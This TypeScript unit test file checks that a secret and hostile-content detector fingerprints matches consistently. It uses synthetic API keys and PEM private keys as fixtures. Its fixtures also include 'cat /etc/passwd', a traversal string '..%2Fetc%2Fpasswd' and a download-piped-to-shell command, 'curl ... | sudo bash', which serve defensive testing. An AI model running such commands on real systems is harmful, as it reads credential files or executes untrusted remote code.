import { createHmac } from 'node:crypto';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { fingerprint } from '../../lib/detector/fingerprint.ts';
import { occurrences } from '../../lib/detector/occurrence.ts';
import type { Rule } from '../../lib/detector/rule.ts';
import { ALNUM, BASE64, filler } from '../../lib/detector/rules/filler.ts';
import { RULES } from '../../lib/detector/rules/index.ts';

const fingerprints = suite('fingerprint');

const KEY = Buffer.alloc(32, 7);

function ruleOf(id: string): Rule {
  const rule = RULES.find((candidate) => candidate.id === id);
  if (rule === undefined) throw new Error(`no rule ${id}`);
  return rule;
}

function fingerprintIn(rule: Rule, text: string): string {
  const [found] = occurrences(rule, text);
  if (found === undefined) throw new Error(`${rule.id} is not in ${text}`);
  return fingerprint(KEY, rule, found.match.secret);
}

fingerprints('is 32 hex digits of an HMAC under the installation key', () => {
  const rule = ruleOf('groq_api_key');
  const secret = `gsk_${filler(52, ALNUM)}`;
  const expected = createHmac('sha256', KEY).update(`ai_api_key\0${secret}`).digest('hex').slice(0, 32);
  assert.is(fingerprint(KEY, rule, secret), expected);
  assert.is.not(fingerprint(Buffer.alloc(32, 8), rule, secret), expected);
  assert.is.not(fingerprint(KEY, rule, `gsk_${filler(52, ALNUM, 2)}`), expected);
});

fingerprints('is the same for a key in any text around it', () => {
  const rule = ruleOf('openai_legacy_key');
  const secret = `sk-${filler(20, ALNUM)}T3BlbkFJ${filler(20, ALNUM, 2)}`;
  const texts = [secret, `Authorization: Bearer ${secret}\n`, `{"key":"${secret}"}`, `?key=${secret}&x`];
  assert.is(new Set(texts.map((text) => fingerprintIn(rule, text))).size, 1);
});

fingerprints('is the same for a private key raw, escaped, escaped twice, and in one line', () => {
  const rule = ruleOf('pem_private_key');
  for (const length of [340, 1592, 3200]) {
    const lines = filler(length, BASE64, length).match(/.{1,64}/g) ?? [];
    const dashes = '-----';
    const pem = [
      `${dashes}BEGIN PRIVATE KEY${dashes}`,
      ...lines,
      `${dashes}END PRIVATE KEY${dashes}`,
      '',
    ].join('\n');
    const wrappings = [
      pem,
      pem.replaceAll('\n', '\r\n'),
      JSON.stringify({ pem }),
      JSON.stringify(JSON.stringify({ pem })),
      pem.replaceAll('\n', '%0A'),
      lines.join('').replace(/^/, `${dashes}BEGIN PRIVATE KEY${dashes}\n`),
    ];
    assert.is(new Set(wrappings.map((text) => fingerprintIn(rule, text))).size, 1, `${length} characters`);
  }
});

fingerprints('tells keys of one kind apart', () => {
  const rule = ruleOf('pem_private_key');
  const seen = new Set<string>();
  for (let seed = 1; seed <= 20; seed++) {
    seen.add(fingerprintIn(rule, `-----BEGIN PRIVATE KEY-----\n${filler(64, BASE64, seed)}\n`));
  }
  assert.is(seen.size, 20);
});

fingerprints('is the same for a path with any separator', () => {
  const rule = ruleOf('etc_passwd_path');
  const texts = ['cat /etc/passwd', 'f=..%2Fetc%2Fpasswd', String.raw`"\/etc\/passwd"`];
  assert.is(new Set(texts.map((text) => fingerprintIn(rule, text))).size, 1);
});

fingerprints('is the same for a command in text, in JSON and with other spaces', () => {
  const rule = ruleOf('download_piped_to_shell');
  const command = 'curl -fsSL "https://x.example/i.sh" | sudo bash';
  const texts = [
    command,
    JSON.stringify({ command }),
    JSON.stringify(JSON.stringify({ command })),
    command.replace(' | ', '   | '),
  ];
  assert.is(new Set(texts.map((text) => fingerprintIn(rule, text))).size, 1);
});

fingerprints.run();
